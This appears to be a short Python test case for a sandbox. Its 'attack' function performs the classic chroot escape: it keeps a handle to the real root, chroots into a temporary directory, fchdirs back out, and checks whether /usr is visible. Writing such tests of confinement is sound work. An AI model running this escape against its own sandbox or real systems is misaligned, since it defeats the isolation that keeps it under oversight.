"""The classical way out of a changed root."""
import os


def attack(target):
    os.makedirs("/tmp/pyexec-root", exist_ok=True)
    root = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/pyexec-root")
    os.fchdir(root)
    os.chroot(".")
    os.rmdir("/tmp/pyexec-root")
    return os.path.exists("/usr")
